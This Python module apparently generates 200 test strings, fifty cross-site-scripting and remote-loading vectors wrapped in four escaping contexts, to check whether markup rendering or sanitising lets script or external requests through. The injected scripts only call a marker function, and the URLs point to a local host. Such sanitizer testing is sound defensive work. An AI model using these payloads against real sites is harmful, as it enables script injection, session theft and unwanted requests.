"""200 texts that would run a script, load something or lead elsewhere, were any of them taken for markup.

Each of fifty kinds comes as it is, behind what would close the place that it may stand in, out of an attribute, and as
a Markdown reader may pass it on. ``ran(`7`)`` is the script of number 7; addresses end with its number.
"""

from __future__ import annotations

KINDS = (
    "<script>{run}</script>", "<script src='{url}'></script>", "<script type=module>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>", "<scr<script>ipt>{run}</script>", "<img src=x onerror={run}>", "<img src='{url}'>",
    "<img srcset='{url} 1x'>", "<picture><source srcset='{url}'><img></picture>", "<image src=x onerror={run}>",
    "<svg onload={run}></svg>", "<svg><script>{run}</script></svg>", "<svg><image href='{url}'/></svg>",
    "<svg><a href='javascript:{run}'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={run}></svg>#x'></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{run}</script>'></iframe></foreignObject></svg>",
    "<svg><style>@import '{url}';</style></svg>", "<math><mtext><script>{run}</script></mtext></math>",
    "<math href='javascript:{run}'>x</math>", "<iframe src='{url}'></iframe>",
    "<iframe src='javascript:parent.{run}'></iframe>", "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data='{url}'></object>", "<embed src='{url}'>", "<video src='{url}' onerror={run}></video>",
    "<video poster='{url}'></video>", "<audio src=x onerror={run}></audio>", "<body onload={run}>",
    "<body background='{url}'>", "<input autofocus onfocus={run}>", "<input type=image src='{url}'>",
    "<details open ontoggle={run}><summary>x</summary></details>", "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>", "<button onclick={run}>x</button>",
    "<a href='javascript:{run}'>x</a>", "<a href='{url}'>x</a>", "<a href='{url}' ping='{url}' target=_blank>x</a>",
    "<form action='{url}'><button>x</button></form>", "<base href='{url}/'><img src=x>",
    "<link rel=stylesheet href='{url}'>", "<link rel=prefetch href='{url}'><link rel=preconnect href='{url}'>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<style>@import url('{url}'); * {{ background: url('{url}') }}</style>",
    "<div style=\"background:url('{url}')\">x</div>",
    "<template shadowrootmode=open><script>{run}</script><img src='{url}'></template>",
    '<noscript><p title="</noscript><img src=x onerror={run}>"></noscript>',
    "<![CDATA[><img src=x onerror={run}>]]><!--><img src=x onerror={run}>-->",
    "![x]({url}) [x](javascript:{run}) <{url}> [y]: {url}\n[z]: javascript:{run} 'x'\n[z][z] <javascript:{run}>",
)  # fmt: skip
PLACES = (
    "{kind}",
    "--></title></style></textarea></noscript></script></div>]]>{kind}",
    '"\'>`${{}}{kind}<!-- "',
    "- > ```html\n{kind}\n```\n\n- [x]({kind})\n\n~~~\n`\n\n    {kind}\n\n<div>\n\n{kind}\n",
)


def payloads(host: str) -> list[str]:
    """The 200; those that load something ask this host, "127.0.0.1:1234"."""
    wanted = [(kind, place) for place in PLACES for kind in KINDS]
    return [
        place.format(kind=kind.format(run=f"ran(`{number}`)", url=f"http://{host}/{number}"))
        for number, (kind, place) in enumerate(wanted)
    ]
